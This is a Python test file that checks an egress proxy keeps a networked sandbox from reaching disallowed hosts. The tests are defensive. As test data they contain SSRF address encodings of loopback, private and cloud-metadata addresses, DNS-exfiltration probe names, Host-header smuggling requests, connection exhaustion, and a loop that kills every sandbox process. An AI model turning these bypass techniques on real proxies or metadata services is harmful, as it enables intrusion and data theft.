"""Cases 57 to 70 from within a sandbox that has network: what is not allowed reaches no listener.

The verdict is what arrived at web servers, canaries and a resolver in a network namespace of the test's own, behind a
real squid with the rules of ``images/egress``. Controls: the same attempts with one rule taken out, and direct attempts
where something leads past the proxy (of containers: ``integration/docker/test_egress.py``).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from tests.hostile.conftest import Weaken
from tests.support.egress import needs
from tests.support.egress.attempts import attempts
from tests.support.egress.service import serving
from tests.support.egress.world import ALLOWED, ALLOWED6, DENIED, PRIVATE, RESOLVER, World, world
from tests.support.runner import Chat, Runner
from tests.support.waiting import until

NOT_ALLOWED = ("denied.test", "evilallowed.test", "allowed.test.evil.test", "below.test.evil.test", "localhost")
ALLOWED_BUT_NOT_PUBLIC = ("private.test", "metadata.test", "cgnat.test", "mixed.test", "six.test")
FORMS = (  # 127.0.0.1, 10.99.0.1 and 169.254.169.254 in the ways that libraries understand
    "2130706433", "0x7f000001", "017700000001", "127.1", "0", "174260225", "0xa630001", "012.0143.0.1", "10.99.1",
    "2852039166", "0xa9fea9fe", "[::1]", "[::]", "[::ffff:10.99.0.1]", "[::ffff:a63:1]", "[::10.99.0.1]",
    "[64:ff9b::a63:1]", "[2002:a63:1::]", "[fd00:ec2::254]", "[fec0::1]", "[2001::a63:1]", "[ff02::1]", "10.99.0.1.",
)  # fmt: skip
ADDRESSES = (*PRIVATE, DENIED, ALLOWED, f"[{ALLOWED6}]", "127.0.0.1", "0.0.0.0", "224.0.0.1", "255.255.255.255")


@pytest.fixture(scope="module")
def outside() -> Iterator[World]:
    needs.ensure()
    with world() as made:
        yield made


@pytest.fixture(scope="module")
def service(outside: World, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Runner]:
    with serving(tmp_path_factory.mktemp("egress") / "data", outside) as made:
        yield made


@pytest.fixture(scope="module")
def talk(service: Runner) -> Iterator[Chat]:
    """One conversation for all cases: a sandbox with network is not kept waiting as a spare."""
    with service.client() as http:
        assert http.get("/healthz").json()["egress"] is True
        chat = Chat(http)
        yield chat
        chat.purge()


@pytest.fixture
def inside(talk: Chat, outside: World) -> Chat:
    """A conversation with network, and nothing counted yet."""
    talk.ok("print()", network=True)
    outside.forget()
    return talk


GOOD = ("allowed.test", "a.below.test", "plainsix.test", "rebind.test")


def strays(outside: World) -> list[dict[str, Any]]:
    """What has arrived and must not have: everything but requests for allowed names at the allowed addresses."""
    good = (*GOOD, *(f"{name}:443" for name in GOOD))
    places = {(at, port, host) for at in (ALLOWED, ALLOWED6) for port in (80, 443) for host in good}
    arrived = [hit for hit in outside.hits() if hit["kind"] != "dns"]
    return [hit for hit in arrived if (hit["at"], hit["port"], hit.get("host")) not in places]


def test_what_is_allowed_passes(inside: Chat, outside: World) -> None:
    found = attempts(
        inside,
        'through_proxy("http://allowed.test/")',
        'through_proxy("http://a.below.test/")',
        'through_proxy("http://plainsix.test/")',
        'tunnel("allowed.test", 443)',
    )
    assert [status for status, _ in found] == [200, 200, 200, 200]
    assert (len(outside.hits(kind="http")), strays(outside)) == (4, [])
    assert "allowed.test" in outside.decisions.read_text()


def test_60_61_addresses_names_and_forms_that_are_not_allowed_reach_nothing(inside: Chat, outside: World) -> None:
    hosts = (*NOT_ALLOWED, *ALLOWED_BUT_NOT_PUBLIC, *FORMS, *ADDRESSES)
    calls = [f'through_proxy("http://{host}{port}/")' for host in hosts for port in ("", ":8080")]
    calls += [f'tunnel("{host.strip("[]")}", {port})' for host in hosts for port in (443, 22)]
    calls += [
        'through_proxy("http://allowed.test:8080/")',
        'tunnel("allowed.test", 8443)',
        'tunnel("allowed.test", 80)',
    ]
    found = [one for at in range(0, len(calls), 60) for one in attempts(inside, *calls[at : at + 60])]
    assert len(found) >= 120
    assert [call for call, (status, _) in zip(calls, found, strict=True) if status == 200] == []
    assert strays(outside) == []


@pytest.mark.parametrize(
    ("rule", "call", "at"),
    [
        ("not_public", 'through_proxy("http://private.test/")', "10.99.0.1"),
        ("not_public", 'tunnel("metadata.test", 443)', "169.254.169.254"),
        ("not_public", 'through_proxy("http://six.test/")', "fd00:ec2::254"),
        ("!names", 'through_proxy("http://denied.test/")', DENIED),
        ("!ports", 'through_proxy("http://allowed.test:8080/")', ALLOWED),
    ],
)
def test_control_without_a_rule_the_same_attempt_arrives(
    rule: str, call: str, at: str, inside: Chat, outside: World
) -> None:
    try:
        outside.start_proxy(rule)
        assert attempts(inside, call)[0][0] == 200
        assert outside.hits(kind="http", at=at)
    finally:
        outside.start_proxy()


def test_62_a_name_that_changes_its_address_leads_nowhere_else(inside: Chat, outside: World) -> None:
    calls = [*(['through_proxy("http://rebind.test/")'] * 100), *(['tunnel("rebind.test", 443)'] * 100)]
    for _ in range(2):  # whichever of its addresses comes first
        outside.start_proxy()
        attempts(inside, *calls)
    assert {hit["at"] for hit in outside.hits(kind="http")} <= {ALLOWED}
    assert strays(outside) == []


def test_control_62_the_changing_name_arrives_where_addresses_are_not_looked_at(inside: Chat, outside: World) -> None:
    try:
        for _ in range(2):
            outside.start_proxy("not_public")
            attempts(inside, 'through_proxy("http://rebind.test/")')
        assert outside.hits(kind="http", at="10.99.0.1")
    finally:
        outside.start_proxy()


def test_64_redirects_are_decided_like_first_requests(inside: Chat, outside: World) -> None:
    goals = ("http://10.99.0.1/", "http://private.test/", "http://denied.test/", "http://169.254.169.254/latest/")
    found = attempts(inside, *(f'through_proxy("http://allowed.test/to?url={goal}")' for goal in goals))
    assert [status for status, _ in found] == [403] * len(goals)
    assert (len(outside.hits(kind="http", at=ALLOWED)), strays(outside)) == (len(goals), [])


def test_65_the_requested_host_counts_and_not_the_header(inside: Chat, outside: World) -> None:
    code = """
import os, socket
where = os.environ["HTTP_PROXY"].removeprefix("http://").split(":")
for first, host in (("http://allowed.test/", "10.99.0.1"), ("http://denied.test/", "allowed.test"),
                    ("/", "allowed.test"), ("http://allowed.test@10.99.0.1/", "allowed.test"),
                    ("http://10.99.0.1#@allowed.test/", "allowed.test"), ("http://allowed.test\\\\@denied.test/", "x")):
    with socket.create_connection((where[0], int(where[1])), 10) as sock:
        sock.sendall(f"GET {first} HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n".encode())
        while sock.recv(65536):
            pass
"""
    inside.ok(code, network=True, timeout_ms=120_000)
    assert strays(outside) == []


def test_67_no_question_reaches_a_resolver_but_for_allowed_names(inside: Chat, outside: World) -> None:
    names = [f"secret{number}.exfil.test" for number in range(10)]
    calls = [call for name in names for call in (f'through_proxy("http://{name}/")', f'tunnel("{name}", 443)')]
    calls += [f'udp("{RESOLVER}", "{names[0]}")', 'udp("127.0.0.11", "asked.exfil.test")', f'tcp("{RESOLVER}", 53)']
    calls += [f'lookup("{name}")' for name in names[:3]]
    attempts(inside, *calls)
    assert [hit for hit in outside.hits(kind="dns") if "exfil" in hit["name"]] == []


def test_control_67_names_that_are_not_checked_first_reach_the_resolver(inside: Chat, outside: World) -> None:
    try:
        outside.start_proxy("!names")
        attempts(inside, 'through_proxy("http://secret.exfil.test/")')
        assert outside.hits(kind="dns", name="secret.exfil.test")
    finally:
        outside.start_proxy()


def test_68_the_proxy_itself_is_no_target(inside: Chat, outside: World) -> None:
    found = attempts(
        inside,
        'through_proxy("http://127.0.0.1:3128/squid-internal-mgr/menu")',
        'through_proxy("http://foliobox-egress:3128/squid-internal-mgr/menu")',
        'through_proxy("http://foliobox-egress/squid-internal-mgr/info")',
        'tunnel("127.0.0.1", 3128)',
        f'tunnel("{outside.net}.2", 3128)',
        f'tunnel("{outside.net}.1", 443)',
    )
    assert [status for status, _ in found if status == 200] == []


DIRECT = [
    f'tcp("{ALLOWED}", 80)', f'tcp("{DENIED}", 22)', 'tcp("10.99.0.1", 22)', 'tcp("169.254.169.254", 80)',
    f'udp("{RESOLVER}")', 'lookup("allowed.test")', 'tcp("allowed.test", 80)',
]  # fmt: skip


def test_57_59_past_the_proxy_there_is_nothing(inside: Chat, outside: World) -> None:
    found = attempts(inside, *DIRECT, f'tcp("{outside.net}.1", 22)', f'tcp("{outside.net}.2", 22)')
    assert [status for status, _ in found if status] == []
    assert outside.hits() == []


def test_57_without_network_there_is_nothing_while_egress_is_on(inside: Chat, outside: World) -> None:
    found = attempts(inside, *DIRECT, 'tcp("127.0.0.1", 3128)', f'tcp("{outside.net}.2", 3128)', network=False)
    assert [status for status, _ in found if status] == []
    told = inside.ok("import os; print([name for name in os.environ if 'proxy' in name.lower() or 'PIP' in name])")
    assert (told["stdout"], told["interpreter"]) == ("[]\n", "kept")
    interfaces = inside.ok("print([line.split(':')[0].strip() for line in open('/proc/net/dev') if ':' in line])")
    assert interfaces["stdout"] == "['lo']\n"
    assert outside.hits() == []


def test_control_57_direct_attempts_arrive_from_a_sandbox_in_the_hosts_network(weaken: Weaken, outside: World) -> None:
    outside.forget()
    with outside.reachable_from_host():
        found = attempts(weaken("shared_network").chat, *DIRECT[:3], f'udp("{RESOLVER}")', network=False)
    assert [status for status, _ in found] == [200] * 4
    assert {"tcp", "dns"} <= {hit["kind"] for hit in outside.hits()}


def test_70_connections_of_one_sandbox_are_bounded(inside: Chat, outside: World) -> None:
    code = """
import socket, time
held = []
for _ in range(60):
    try:
        held.append(socket.create_connection(("127.0.0.1", 3128), 2))
    except OSError:
        pass
time.sleep(0.5)
alive = 0
for sock in held:
    sock.setblocking(False)
    try:
        sock.recv(1)
    except BlockingIOError:
        alive += 1
    except OSError:
        pass
for sock in held:
    sock.close()
print(alive)
"""
    assert inside.ok(code, network=True)["stdout"] == "32\n"
    ask = 'through_proxy("http://allowed.test/")'
    until(lambda: attempts(inside, ask)[0][0] == 200, "there is room again")


def test_the_way_to_the_proxy_cannot_be_taken_over(inside: Chat, outside: World) -> None:
    code = """
import os, signal, socket
def taken(*options):
    with socket.socket() as sock:
        for option in options:
            sock.setsockopt(socket.SOL_SOCKET, option, 1)
        try:
            sock.bind(("127.0.0.1", 3128))
            sock.listen()
        except OSError as error:
            return error.errno
    return 0
print(taken(), taken(socket.SO_REUSEADDR), taken(socket.SO_REUSEPORT), taken(socket.SO_REUSEADDR, socket.SO_REUSEPORT))
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) not in (1, os.getpid()):
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
"""
    assert inside.ok(code, network=True)["stdout"].split() == ["98"] * 4
    assert attempts(inside, 'through_proxy("http://allowed.test/")')[0][0] == 200


def test_a_proxy_that_is_gone_lets_nothing_through(inside: Chat, outside: World) -> None:
    try:
        outside.stop_proxy()
        assert attempts(inside, 'through_proxy("http://allowed.test/")', 'tunnel("allowed.test", 443)')[0][0] == 0
        assert outside.hits() == []
        assert inside.ok("print(1)", network=False)["stdout"] == "1\n"
    finally:
        outside.start_proxy()
